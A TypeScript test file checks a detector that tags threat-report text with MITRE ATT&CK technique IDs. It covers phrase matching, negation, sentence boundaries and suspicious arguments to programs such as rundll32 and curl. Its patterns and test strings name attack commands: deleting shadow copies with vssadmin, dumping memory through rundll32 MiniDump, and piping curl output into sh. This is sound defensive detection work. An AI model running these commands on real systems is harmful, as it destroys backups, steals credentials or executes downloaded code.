import { expect, test } from "vitest";

import { findBehaviours } from "./find-behaviours.ts";

const behaviours = [
  { technique: "T1053.005", phrases: ["scheduled task* ... creat*", "creat* ... scheduled task*"] },
  { technique: "T1566.001", phrases: ["email with attachment"] },
  { technique: "T1490", phrases: ["delet* ... shadow copies", "vssadmin delete shadows"] },
];
const lolbins = [
  {
    binary: "rundll32.exe",
    platform: "windows",
    techniques: ["T1218.011"],
    arguments: [
      { text: "javascript:", techniques: ["T1218.011"] },
      { text: ",#1", techniques: ["T1218.011"] },
      { text: "MiniDump", techniques: ["T1218.011", "T1003.001"] },
    ],
  },
  {
    binary: "curl",
    platform: "linux",
    techniques: ["T1105"],
    arguments: [{ text: "| sh", techniques: ["T1105"] }],
  },
];
const found = (text: string): string[] =>
  findBehaviours(behaviours, lolbins, text, []).map(
    ({ value, matched, confidence, reasons }) => `${value} «${matched}» ${confidence} ${reasons.join(", ")}`,
  );

test("a phrase implies its technique, with words of any ending and up to three words between", () => {
  expect(found("A scheduled task was then created.")).toEqual([
    'T1053.005 «scheduled task was then created» 0.55 "scheduled task was then created"',
  ]);
  expect(found("They create scheduled tasks.")).toHaveLength(1);
  expect(found("A scheduled task that nobody had ever seen created havoc.")).toEqual([]);
});

test("articles and auxiliary verbs do not count", () => {
  expect(found("They deleted all of the shadow copies; a scheduled task has been created.")).toHaveLength(2);
});

test("an email, a mail and an e-mail are one word", () => {
  expect(found("an email with an attachment")).toHaveLength(1);
  expect(found("a mail with an attachment")).toHaveLength(1);
  expect(found("The e-mail with an attachment")).toHaveLength(1);
});

test("a phrase does not reach over the end of a sentence", () => {
  expect(found("There was a scheduled task. Created by us, it ran.")).toEqual([]);
});

test("the ending of a program's name is no word", () => {
  expect(found("vssadmin.exe delete shadows /all")).toHaveLength(1);
});

test("a negation leaves little", () => {
  expect(found("They did not delete the shadow copies.")).toEqual([
    'T1490 «delete the shadow copies» 0.15 "delete the shadow copies", negated',
  ]);
});

test("a program implies its technique when it is run with a suspicious argument", () => {
  expect(found('rundll32.exe javascript:"x"')).toEqual([
    'T1218.011 «rundll32.exe javascript:» 0.6 rundll32.exe with "javascript:"',
  ]);
  expect(found("rundll32.exe is a program; curl too")).toEqual([]);
  expect(found("curl http://x | sh")).toHaveLength(1);
  expect(found("curl http://x | shred")).toEqual([]);
});

test("an argument says for which technique a program is used", () => {
  expect(found("rundll32.exe C:\\x.dll, MiniDump 624")).toEqual([
    'T1218.011 «rundll32.exe C:\\x.dll, MiniDump» 0.6 rundll32.exe with "MiniDump"',
    'T1003.001 «rundll32.exe C:\\x.dll, MiniDump» 0.6 rundll32.exe with "MiniDump"',
  ]);
});

test("proposals are marked as such and stand at their place", () => {
  const text = "x; vssadmin delete shadows";
  const [proposal] = findBehaviours(behaviours, lolbins, text, []);
  expect(proposal).toMatchObject({ type: "technique", status: "proposed", role: null });
  expect(text.slice(proposal?.start, proposal?.end)).toBe(proposal?.matched);
});
